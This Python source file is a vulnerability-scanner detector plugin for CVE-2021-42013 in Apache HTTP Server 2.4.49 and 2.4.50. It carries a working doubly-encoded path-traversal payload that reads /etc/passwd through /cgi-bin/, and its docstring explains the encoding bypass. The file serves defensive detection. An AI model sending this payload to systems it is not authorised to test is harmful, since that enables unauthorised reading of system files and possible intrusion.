# SPDX-FileCopyrightText: 2025 Theori Inc.
# SPDX-License-Identifier: AGPL-3.0-or-later

"""
CVE-2021-42013: path traversal and RCE in Apache HTTP Server 2.4.49 / 2.4.50.

The fix for CVE-2021-41773 in 2.4.50 only decoded the request path once before
rejecting ``..`` segments. Doubly encoded dots (``%%32%65`` decodes to ``%2e``,
which decodes to ``.``) slip past that check, letting a request under an
Alias-like directive such as ``/cgi-bin/`` walk out to arbitrary files.

The probe reads ``/etc/passwd`` through ``/cgi-bin/`` and only trusts the result
when the ``Server`` header names one of the two affected releases.
"""

from __future__ import annotations

import logging
import re
from collections.abc import Sequence

from ..clock import to_epoch_millis
from ..http import HttpRequest, HttpResponse, header_value
from ..models import (
    DetectionReport,
    DetectionReportList,
    DetectionStatus,
    NetworkService,
    Severity,
    TargetInfo,
    Vulnerability,
    VulnerabilityId,
)
from ..utils.network_service import build_web_application_root_url, is_web_service
from .base import PluginInfo, VulnDetector

logger = logging.getLogger(__name__)

TRAVERSAL_PATH = (
    "cgi-bin/.%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd"
)
VULNERABLE_SERVER_VERSIONS = ("Apache/2.4.49", "Apache/2.4.50")
FORBIDDEN_MARKER = "You don't have permission to access this resource."
PASSWD_PATTERN = re.compile(r"root:[x*]:0:0:")

VULNERABILITY = Vulnerability(
    main_id=VulnerabilityId(publisher="TSUNAMI_COMMUNITY", value="CVE_2021_42013"),
    severity=Severity.HIGH,
    title="Path Traversal and Remote Code Execution in Apache HTTP Server 2.4.49 and 2.4.50",
    description=(
        "It was found that the fix for CVE-2021-41773 in Apache HTTP Server 2.4.50 "
        "was insufficient. An attacker could use a path traversal attack to "
        "map URLs to files outside the directories configured by Alias-like "
        "directives.\n"
        "If files outside of these directories are not protected by the "
        'usual default configuration "require all denied", these requests '
        "can succeed. If CGI scripts are also enabled for these aliased pathes, "
        "this could allow for remote code execution.\n"
        "https://httpd.apache.org/security/vulnerabilities_24.html\n"
        "https://cve.mitre.org/cgi-bin/cvename.cgi?name=CVE-2021-42013"
    ),
    recommendation="Update 2.4.51 released.",
)


def build_probe_url(network_service: NetworkService) -> str:
    return build_web_application_root_url(network_service) + TRAVERSAL_PATH


def is_vulnerable_response(response: HttpResponse) -> bool:
    """Apply the version, deny-all and passwd checks to a probe response."""
    server = header_value(response.headers, "Server")
    if not any(version in server for version in VULNERABLE_SERVER_VERSIONS):
        return False

    body = response.text or ""
    # "Require all denied" is still in effect for the traversed directory.
    if response.status_code == 403 and FORBIDDEN_MARKER in body:
        return False
    return response.status_code == 200 and PASSWD_PATTERN.search(body) is not None


class ApacheHttpServerCVE202142013Detector(VulnDetector):
    plugin_info = PluginInfo(
        name="ApacheHttpServerCVE202142013VulnDetector",
        version="1.0",
        description=(
            "This detector checks for Apache HTTP Server 2.4.49 and 2.4.50 "
            "path traversal and remote code execution vulnerability (CVE-2021-42013)."
        ),
        author="threedr3am (qiaoer1320@gmail.com)",
    )

    def detect(
        self,
        target_info: TargetInfo,
        matched_services: Sequence[NetworkService],
    ) -> DetectionReportList:
        reports = [
            self.build_detection_report(target_info, service)
            for service in matched_services
            if is_web_service(service) and self.is_service_vulnerable(service)
        ]
        return DetectionReportList(tuple(reports))

    def is_service_vulnerable(self, network_service: NetworkService) -> bool:
        target_url = build_probe_url(network_service)
        request = HttpRequest(url=target_url, method="GET", allow_redirects=False, path_as_is=True)
        try:
            response = self.http_client.request(request)
        except Exception as exc:  # noqa: BLE001
            logger.warning("Unable to query '%s'.", target_url, exc_info=exc)
            return False

        if not response.ok:
            logger.warning(
                "Unable to query '%s': %s",
                target_url,
                response.error_message or response.error_category or "request failed",
            )
            return False
        return is_vulnerable_response(response)

    def build_detection_report(
        self, target_info: TargetInfo, vulnerable_network_service: NetworkService
    ) -> DetectionReport:
        return DetectionReport(
            target_info=target_info,
            network_service=vulnerable_network_service,
            detection_timestamp_ms=to_epoch_millis(self.clock.now()),
            detection_status=DetectionStatus.VULNERABILITY_VERIFIED,
            vulnerability=VULNERABILITY,
        )


__all__ = [
    "ApacheHttpServerCVE202142013Detector",
    "PASSWD_PATTERN",
    "TRAVERSAL_PATH",
    "VULNERABILITY",
    "build_probe_url",
    "is_vulnerable_response",
]
